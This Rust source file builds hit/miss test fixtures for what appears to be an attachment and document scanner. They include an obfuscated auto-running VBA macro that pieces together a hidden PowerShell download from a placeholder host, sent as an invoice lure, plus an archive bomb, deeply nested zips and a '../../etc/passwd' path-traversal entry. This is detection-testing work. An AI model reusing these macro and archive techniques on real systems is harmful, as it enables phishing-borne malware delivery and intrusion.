//! Fixtures that our own builders make: `SEKISHO_BLESS=1` writes those that are missing below `testdata/`.
//!
//! Harmless throughout: programs have no code, macros name hosts that cannot exist. Fixtures of independent writers
//! are not here; `testdata/README.md` says how they were made.

mod biff;
mod carriers;
mod files;
mod hangul;
pub(crate) mod locked;
pub(crate) mod objects;
pub(crate) mod onenote;
mod pages;
pub(crate) mod pdf;
mod stomped;
mod xlm;

use std::io::{Cursor, Write};

use zip::CompressionMethod;
use zip::write::SimpleFileOptions;

use crate::build::{Part, attachment, base64, docm, docx, mail, module, program, zip};

/// A fixture: its path below `testdata/`, and its bytes.
pub(crate) type Fixture = (&'static str, Vec<u8>);

/// All of them.
pub(crate) fn all() -> Vec<Fixture> {
    let mut all = samples();
    all.extend(mails());
    all.extend(macros());
    all.extend(names());
    all.extend(programs());
    all.extend(containers());
    all.extend(combinations());
    all.extend(situations());
    all.extend(crate::build_links::fixtures());
    all.extend(crate::build_slides::fixtures());
    all.extend(files::all());
    all.extend(hangul::all());
    all.extend(locked::all());
    all.extend(objects::all());
    all.extend(onenote::all());
    all.extend(pdf::all());
    all.extend(biff::all());
    all.extend(carriers::all());
    all.extend(pages::all());
    all.extend(stomped::all());
    all.extend(xlm::all());
    all.extend(crate::fixtures_programs::all());
    all
}

const TEXT: &str = "Content-Type: text/plain; charset=us-ascii";
const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

fn text_part(text: &str) -> Part<'static> {
    Part {
        headers: TEXT,
        body: text.as_bytes().to_vec(),
    }
}

/// An encoded word (RFC 2047) in ISO-2022-JP, as Japanese mail programs write subjects and names.
fn encoded_word(text: &str) -> String {
    let bytes = encoding_rs::ISO_2022_JP.encode(text).0;
    let base64 = String::from_utf8(base64(&bytes)).unwrap();
    format!("=?ISO-2022-JP?B?{}?=", base64.replace("\r\n", ""))
}

fn attached(kind: &str, name: &str) -> String {
    format!(
        "Content-Type: {kind}; name=\"{name}\"\nContent-Disposition: attachment; filename=\"{name}\"\nContent-Transfer-Encoding: base64"
    )
}

/// A Word document with one module of code.
fn with_macro(code: &str) -> Vec<u8> {
    docm("Report", &[("Module1", module("Module1", code))])
}

const STARTS: &str = "Sub AutoOpen()\n    Prepare\nEnd Sub\n";
const CALLS: &str =
    "Sub Prepare()\n    CreateObject(\"WScript.Shell\").Run \"cmd.exe /c echo done\", 0\nEnd Sub\n";
const HIDES: &str = "Sub Prepare()\n    t = StrReverse(\"/dilavni.elpmaxe//:ptth\")\nEnd Sub\n";

/// A macro that starts itself and calls PowerShell with a text put together from pieces.
const ATTACK: &str = "Sub AutoOpen()\n    Dim s\n    s = \"pow\" & \"ersh\" & \"ell -w hid\" & \"den -c \"\"iwr \" & StrReverse(\"nib.a/dilavni.elpmaxe//:ptth\") & \" -OutFile a.bin\"\"\"\n    CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\").Run s, 0\nEnd Sub\n";

fn samples() -> Vec<Fixture> {
    let subject = encoded_word("打ち合わせ資料の送付");
    let name = encoded_word("会議資料.docx");
    let text = "お世話になっております。\r\n会議の資料をお送りします。\r\n";
    let body = encoding_rs::ISO_2022_JP.encode(text).0.into_owned();
    let japanese = Part {
        headers: "Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit",
        body,
    };
    let headers = attached(WORD, &name);
    let meeting = mail(
        &subject,
        &[
            japanese,
            attachment(&headers, &docx("会議は午後二時からです。")),
        ],
    );
    let headers = attached(
        "application/vnd.ms-word.document.macroEnabled.12",
        "invoice.docm",
    );
    let invoice = mail(
        "Invoice 2026-1102",
        &[
            text_part("Please enable content to see the invoice.\r\n"),
            attachment(&headers, &with_macro(ATTACK)),
        ],
    );
    vec![
        ("samples/meeting-notes.eml", meeting),
        ("samples/invoice-with-macro.eml", invoice),
    ]
}

fn raw(text: &str) -> Vec<u8> {
    text.replace('\n', "\r\n").into_bytes()
}

const HEAD: &str = "From: taro@branch.example\nTo: hanako@hq.example.co.jp\nSubject: Report\nDate: Mon, 02 Nov 2026 09:30:00 +0900\nMessage-ID: <1@branch.example>\nMIME-Version: 1.0\n";

fn mails() -> Vec<Fixture> {
    let twice = raw(&format!(
        "{HEAD}Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: base64\nContent-Transfer-Encoding: 7bit\n\nSGVsbG8sIHRoaXMgaXMgdGhlIHJlcG9ydC4K\n"
    ));
    let program = String::from_utf8(base64(&program())).unwrap();
    let boundaries = raw(&format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"one\"; boundary=\"two\"\n\n--one\nContent-Type: text/plain\n\nHello\n--one--\n\n--two\nContent-Type: application/octet-stream; name=\"setup.exe\"\nContent-Disposition: attachment; filename=\"setup.exe\"\nContent-Transfer-Encoding: base64\n\n{}\n--two--\n",
        program.replace("\r\n", "\n")
    ));
    let nested = raw(&format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"one\"\n\n--one\nContent-Type: multipart/alternative; boundary=\"one-two\"\n\n--one-two\nContent-Type: text/plain\n\nHello\n--one-two\nContent-Type: text/html\n\n<html><body>Hello</body></html>\n--one-two--\n\n--one\nContent-Type: text/csv; name=\"a.csv\"\nContent-Disposition: attachment; filename=\"a.csv\"\n\na,b\n1,2\n--one--\n"
    ));
    let odd = |body: &str| {
        raw(&format!(
            "{HEAD}Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: base64\n\n{body}\n"
        ))
    };
    let partial = raw(&format!(
        "{HEAD}Content-Type: message/partial; number=2; total=3; id=\"report@branch.example\"\n\nthe middle of something\n"
    ));
    let whole = raw(&format!(
        "{HEAD}Content-Type: message/rfc822\n\nFrom: a@branch.example\nSubject: Forwarded\nContent-Type: text/plain\n\nnumber=2; total=3\n"
    ));
    vec![
        ("findings/mime-ambiguous/hit.eml", twice),
        (
            "findings/mime-ambiguous/hit.hides-attachment.eml",
            boundaries,
        ),
        ("findings/mime-ambiguous/miss.eml", nested),
        (
            "findings/mime-malformed/hit.eml",
            odd("SGVsbG8sIHRoaXMg{aXMgdGhl}IHJlcG9ydC4K"),
        ),
        (
            "findings/mime-malformed/miss.eml",
            odd("SGVsbG8sIHRoaXMg\naXMgdGhlIHJlcG9ydC4K"),
        ),
        ("findings/mime-partial/hit.eml", partial),
        ("findings/mime-partial/miss.eml", whole),
    ]
}

fn macros() -> Vec<Fixture> {
    let without_code = "Attribute VB_Base = \"0{FCFB3D2A-A0FA-1068-A738-08002B3371B5}\"\n\n";
    let click = "Private Sub CommandButton1_Click()\n    MsgBox \"AutoOpen\"\nEnd Sub\n";
    let file = "Sub Prepare()\n    Set f = CreateObject(\"Scripting.FileSystemObject\")\n    MsgBox f.GetFileName(\"WScript.Shell\")\nEnd Sub\n";
    let line_ends =
        "Sub Prepare()\n    t = \"Total:\" & Chr(13) & Chr(10) & Chr(34) & n & Chr(34)\nEnd Sub\n";
    vec![
        ("findings/vba-macro/hit.docm", with_macro(file)),
        ("findings/vba-macro/miss.docm", with_macro(without_code)),
        ("findings/vba-autoexec/hit.docm", with_macro(STARTS)),
        ("findings/vba-autoexec/miss.docm", with_macro(click)),
        ("findings/vba-suspicious-call/hit.docm", with_macro(CALLS)),
        ("findings/vba-suspicious-call/miss.docm", with_macro(file)),
        ("findings/vba-obfuscated/hit.docm", with_macro(HIDES)),
        ("findings/vba-obfuscated/miss.docm", with_macro(line_ends)),
        ("findings/macro-in-disguise/hit.docx", with_macro(file)),
        ("findings/macro-in-disguise/miss.docm", with_macro(file)),
        ("findings/macro-in-disguise/miss.docx", docx("Report")),
    ]
}

fn names() -> Vec<Fixture> {
    let document = docx("Report");
    let program = program();
    let rich = b"{\\rtf1\\ansi Report\\par}\r\n".as_slice();
    let filled = format!("invoice.pdf{}.exe", " ".repeat(40));
    vec![
        (
            "findings/type-mismatch/hit.zip",
            zip(&[("report.docx", rich)]),
        ),
        (
            "findings/type-mismatch/hit.across-families.zip",
            zip(&[("holiday.jpg", &document)]),
        ),
        (
            "findings/type-mismatch/miss.zip",
            zip(&[("report.docx", &document), ("report.v2", &document)]),
        ),
        (
            "findings/double-extension/hit.zip",
            zip(&[("report.pdf.docx", &document)]),
        ),
        (
            "findings/double-extension/hit.last-one-runs.zip",
            zip(&[("invoice.pdf.exe", &program)]),
        ),
        (
            "findings/double-extension/miss.zip",
            zip(&[("report.2026.11.docx", &document), ("v1.2.exe", &program)]),
        ),
        (
            "findings/rtlo-filename/hit.zip",
            zip(&[("invoice_\u{202e}xcod.exe", &program)]),
        ),
        (
            "findings/rtlo-filename/miss.zip",
            zip(&[("דוח\u{200f} 2026.docx", &document)]),
        ),
        (
            "findings/padded-filename/hit.zip",
            zip(&[(&filled, &program)]),
        ),
        (
            "findings/padded-filename/miss.zip",
            zip(&[("application form ____ .docx", &document)]),
        ),
    ]
}

fn programs() -> Vec<Fixture> {
    let program = program();
    let text = b"MZ are the first letters of a program, and PE stands in it; this is a text.\r\n";
    vec![
        ("findings/executable/hit.exe", program.clone()),
        ("findings/executable/miss.txt", text.to_vec()),
        ("findings/executable-disguised/hit.pdf", program.clone()),
        ("findings/executable-disguised/miss.exe", program.clone()),
        ("findings/embedded-executable/hit.docx", holding(&program)),
        (
            "findings/embedded-executable/miss.zip",
            zip(&[("setup.exe", &program), ("report.docx", &docx("Report"))]),
        ),
    ]
}

/// A Word document with another member.
fn holding(member: &[u8]) -> Vec<u8> {
    let package = docx("Report");
    let mut archive = zip::ZipArchive::new(Cursor::new(package)).unwrap();
    let mut parts = Vec::new();
    for index in 0..archive.len() {
        let mut file = archive.by_index(index).unwrap();
        let mut data = Vec::new();
        std::io::copy(&mut file, &mut data).unwrap();
        let name = file.name().unwrap().into_owned();
        drop(file);
        parts.push((name, data));
    }
    parts.push(("word/embeddings/object1.bin".to_owned(), member.to_vec()));
    let parts: Vec<(&str, &[u8])> = parts
        .iter()
        .map(|(name, data)| (name.as_str(), data.as_slice()))
        .collect();
    zip(&parts)
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    writer.write_all(data).unwrap();
    writer.finish().unwrap()
}

/// Zips within zips; the innermost holds a text.
fn nested(levels: usize) -> Vec<u8> {
    let mut data = b"the innermost text\r\n".to_vec();
    let mut name = "inner.txt";
    for _ in 0..levels {
        data = zip(&[(name, &data)]);
        name = "inner.zip";
    }
    data
}

/// Changes a number of 16 bits in every local header and directory entry of a zip of one member.
fn patched(mut archive: Vec<u8>, local: usize, central: usize, value: u16) -> Vec<u8> {
    let directory = archive
        .windows(4)
        .position(|window| window == b"PK\x01\x02")
        .unwrap();
    for at in [local, directory + central] {
        archive[at..at + 2].copy_from_slice(&value.to_le_bytes());
    }
    archive
}

/// A zip with a comment on the whole archive.
fn with_comment(mut archive: Vec<u8>) -> Vec<u8> {
    let comment = b"sent by the office";
    let len = u16::try_from(comment.len()).unwrap();
    let at = archive.len() - 2;
    archive[at..].copy_from_slice(&len.to_le_bytes());
    archive.extend_from_slice(comment);
    archive
}

/// A zip of texts compressed by methods.
fn by_method(methods: &[CompressionMethod]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for method in methods {
        let options = SimpleFileOptions::default().compression_method(*method);
        writer.start_file(format!("{method}.txt"), options).unwrap();
        let text = format!("Compressed by {method}.\r\n").repeat(8);
        writer.write_all(text.as_bytes()).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A picture of one dot, written by hand.
fn picture() -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |name: &[u8; 4], data: &[u8]| {
        let mut crc = flate2::Crc::new();
        crc.update(name);
        crc.update(data);
        out.extend_from_slice(&u32::try_from(data.len()).unwrap().to_be_bytes());
        out.extend_from_slice(name);
        out.extend_from_slice(data);
        out.extend_from_slice(&crc.sum().to_be_bytes());
    };
    chunk(b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
    let mut dot = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    dot.write_all(&[0, 0x80]).unwrap();
    chunk(b"IDAT", &dot.finish().unwrap());
    chunk(b"IEND", &[]);
    out
}

fn containers() -> Vec<Fixture> {
    let text = "Minutes of the meeting: nothing was decided.\r\n".repeat(20);
    let plain = || zip(&[("minutes.txt", text.as_bytes())]);
    // The name takes 11 bytes behind the 30 of the local header; then the compressed data.
    let mut damaged = plain();
    damaged[44..60].fill(0xff);
    let bomb = zip(&[("report.gz", &gzip(&vec![0; 48 << 20]))]);
    let small = zip(&[("zeros.bin", &vec![0; 1 << 20])]);
    let mut both = picture();
    both.extend_from_slice(&plain());
    let mut padded = picture();
    padded.extend_from_slice(&[0; 64]);
    vec![
        ("findings/archive-bomb/hit.zip", bomb),
        ("findings/archive-bomb/miss.zip", small),
        ("findings/limit-exceeded/hit.zip", nested(26)),
        ("findings/limit-exceeded/miss.zip", nested(12)),
        ("findings/malformed-container/hit.zip", damaged),
        (
            "findings/malformed-container/miss.zip",
            patched(plain(), 6, 8, 1),
        ),
        // Says that it is encrypted, and is not.
        (
            "findings/container-irregular/hit.zip",
            patched(plain(), 6, 8, 1),
        ),
        (
            "findings/container-irregular/miss.zip",
            with_comment(plain()),
        ),
        (
            "findings/encrypted-archive/miss-flag-lies.zip",
            patched(plain(), 6, 8, 1),
        ),
        // Method 96 is a picture's, by nobody's software written.
        (
            "findings/unsupported-container/hit.zip",
            patched(by_method(&[CompressionMethod::Bzip2]), 8, 10, 96),
        ),
        (
            "findings/unsupported-container/miss.zip",
            by_method(&[
                CompressionMethod::Stored,
                CompressionMethod::Bzip2,
                CompressionMethod::Zstd,
            ]),
        ),
        ("findings/polyglot/hit.png", both),
        ("findings/polyglot/miss.png", padded),
    ]
}

fn combinations() -> Vec<Fixture> {
    let both = format!("{STARTS}{CALLS}");
    let one = attached("application/octet-stream", "one.docm");
    let two = attached("application/octet-stream", "two.docm");
    let apart = mail(
        "Two documents",
        &[
            attachment(&one, &with_macro(STARTS)),
            attachment(&two, &with_macro(CALLS)),
        ],
    );
    let setup = attached("application/octet-stream", "setup.exe");
    let report = attached(WORD, "report.docx");
    let beside = mail(
        "A program and a document",
        &[
            attachment(&setup, &program()),
            attachment(&report, &docx("Report")),
        ],
    );
    let text = b"This is the text of an invoice, not a program.\r\n";
    vec![
        ("findings/autostart-with-call/hit.docm", with_macro(&both)),
        ("findings/autostart-with-call/miss.eml", apart),
        ("findings/program-in-document/hit.docx", holding(&program())),
        ("findings/program-in-document/miss.eml", beside),
        (
            "findings/name-trick/hit.zip",
            zip(&[("invoice.pdf.exe", &program())]),
        ),
        (
            "findings/name-trick/miss.zip",
            zip(&[("report.pdf.txt", text), ("setup.exe", &program())]),
        ),
    ]
}

/// The mail with another boundary for its own parts than for those of the mail in it.
fn with_other_outer_boundary(mail: &[u8]) -> Vec<u8> {
    let text = String::from_utf8(mail.to_vec()).unwrap();
    let lines: Vec<&str> = text.split_inclusive("\r\n").collect();
    let inner = lines.iter().rposition(|line| line.contains("boundary="));
    let inner_end = lines.iter().position(|line| *line == "--=_sekisho--\r\n");
    let (from, to) = (inner.unwrap(), inner_end.unwrap());
    let changed = lines.iter().enumerate().map(|(at, line)| {
        if (from..=to).contains(&at) {
            (*line).to_owned()
        } else {
            line.replace("=_sekisho", "=_around")
        }
    });
    changed.collect::<String>().into_bytes()
}

/// Cases whose whole report is kept.
fn situations() -> Vec<Fixture> {
    let archive = zip(&[("報告書.docm", &with_macro(STARTS))]);
    let headers = attached("application/zip", "reports.zip");
    let inner = mail(
        "Inner",
        &[text_part("See below.\r\n"), attachment(&headers, &archive)],
    );
    let forwarded = Part {
        headers: "Content-Type: message/rfc822",
        body: inner,
    };
    let confusing = mail("Fwd: Inner", &[text_part("For you.\r\n"), forwarded]);
    let around = with_other_outer_boundary(&confusing);
    let same = attached(WORD, "a.docx");
    let again = attached(WORD, "b.docx");
    let copies = mail(
        "Twice the same",
        &[
            attachment(&same, &docx("Same")),
            attachment(&again, &docx("Same")),
        ],
    );
    let lies = attached("image/png", "picture.png");
    let lying = mail("A picture", &[attachment(&lies, &program())]);
    let quoted = raw(&format!(
        "{HEAD}Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\nSee http://www.exam=\nple.co.jp/report and =E6=97=A5=E6=9C=AC.\n"
    ));
    let code = "Sub 集計()\n    MsgBox \"完了\"\nEnd Sub\n";
    let japanese = docm("集計表", &[("集計", module("集計", code))]);
    let mut cut = zip(&[("a.txt", &[b'a'; 900]), ("b.txt", &[b'b'; 900])]);
    cut.truncate(cut.len() - 60);
    vec![
        ("mail/macro_in_zip_in_forwarded_mail.eml", around),
        ("mail/forwarded_mail_with_the_same_boundary.eml", confusing),
        ("mail/same_document_attached_twice.eml", copies),
        ("mail/content_type_lies.eml", lying),
        ("mail/quoted_printable_text_with_address.eml", quoted),
        (
            "documents/macro_with_pieced_command.docm",
            with_macro(ATTACK),
        ),
        ("documents/macro_named_in_japanese.docm", japanese),
        ("archives/zip_without_end_record.zip", cut),
        ("archives/gzip_of_program.gz", gzip(&program())),
        (
            "archives/zip_of_names.zip",
            zip(&[
                ("../../etc/passwd", b"root:x:0:0".as_slice()),
                ("ファイル.txt", "内容\r\n".as_bytes()),
                ("empty.txt", b""),
            ]),
        ),
    ]
}
